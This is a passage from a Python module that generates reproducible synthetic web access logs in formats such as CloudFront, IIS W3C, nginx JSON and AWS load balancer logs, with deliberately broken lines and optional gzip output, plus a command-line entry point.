    ]  # fmt: skip


# Header lines a file of the format starts with.
_HEADERS = {
    "cloudfront": (b"#Version: 1.0\n", f"#Fields: {CLOUDFRONT_FIELDS}\n".encode()),
    "w3c": (b"#Software: Microsoft Internet Information Services 10.0\n", b"#Version: 1.0\n",
            b"#Date: %s 00:00:00\n", f"#Fields: {IIS_FIELDS}\n".encode()),
}  # fmt: skip
_RENDERERS = {
    "caddy_json": _caddy_json,
    "nginx_json": _nginx_json,
    "aws_alb": _aws_alb,
    "aws_elb_classic": _aws_elb_classic,
    "cloudfront": _cloudfront,
    "w3c": _w3c,
}


def _render_other(plan: _Plan, requests: _Requests, first: int, block: int) -> bytes:
    """A block of requests in a format other than Apache's, its broken lines broken in the same places."""
    spec = plan.spec
    rng = np.random.default_rng([spec.seed, 5, block])  # a stream of its own: Apache's bytes stay as they are
    parts = _RENDERERS[spec.fmt](spec, requests, _extras(rng, requests))
    n = len(requests.status)
    pieces = np.empty((n, len(parts)), dtype=object)
    for column, part in enumerate(parts):
        pieces[:, column] = part
    lo, hi = np.searchsorted(plan.broken_at, (first, first + n))
    for line, kind_of_break in zip(plan.broken_at[lo:hi].tolist(), plan.broken_kind[lo:hi].tolist(), strict=True):
        row = line - first
        text = b"".join(pieces[row])
        if kind_of_break == _EMPTY:
            text = b"\n"
        elif kind_of_break == _GARBAGE:
            text = _broken_line(rng, pieces[row], _GARBAGE)
        else:  # cut off, or fields missing at the end: the line stops a quarter to half way through
            text = text[: int(rng.integers(len(text) // 4, len(text) // 2))] + b"\n"
        pieces[row] = b""
        pieces[row, 0] = text
    if first == 0 and spec.fmt in _HEADERS:  # the file's header takes the place of its first requests
        header = [line.replace(b"%s", spec.day.isoformat().encode()) for line in _HEADERS[spec.fmt]][:n]
        pieces[: len(header)] = b""
        pieces[: len(header), 0] = header
    return b"".join(pieces.ravel().tolist())


# --- the public functions ------------------------------------------------------------------


def generate_lines(spec: LogSpec) -> Iterator[bytes]:
    """The log as blocks of whole lines, each ending in b"\\n"; the same spec gives the same bytes."""
    if spec.lines == 0:
        return
    plan = _plan(spec)
    for block, first in enumerate(range(0, spec.lines, _BLOCK_LINES)):
        yield _render_block(plan, first, min(first + _BLOCK_LINES, spec.lines), block)


def _compressed(raw: BinaryIO) -> gzip.GzipFile:
    # level 1: several times faster than the default 9 for a few percent more bytes;
    # mtime 0 and no file name in the header keep the output reproducible
    return gzip.GzipFile(filename="", mode="wb", compresslevel=1, fileobj=raw, mtime=0)


def write_log(path: str | Path, spec: LogSpec) -> GeneratedLog:
    """Write the log to `path` (gzip when it ends in .gz) and say what is in it."""
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    with open(path, "wb") as raw, _compressed(raw) if path.suffix == ".gz" else contextlib.nullcontext(raw) as out:
        for block in generate_lines(spec):
            out.write(block)
    return GeneratedLog(str(path), spec.lines, spec.broken_lines, path.stat().st_size)


def main(argv: Sequence[str] | None = None) -> None:
    parser = argparse.ArgumentParser(description="Write a realistic synthetic access log.")
    parser.add_argument("path", help="where to write; a name ending in .gz is gzip-compressed")
    for field in dataclasses.fields(LogSpec):
        default = field.default
        convert = datetime.date.fromisoformat if isinstance(default, datetime.date) else type(default)
        parser.add_argument(
            "--" + field.name.replace("_", "-"),
            type=convert,
            default=default,
            choices=FORMATS if field.name == "fmt" else None,
        )
    args = vars(parser.parse_args(argv))
    path = args.pop("path")
    started = time.perf_counter()
    log = write_log(path, LogSpec(**args))
    print(
        f"{log.path}: {log.lines} lines ({log.broken_lines} broken), {log.size_bytes} bytes, "
        f"{time.perf_counter() - started:.1f} s"
    )


if __name__ == "__main__":
    main()
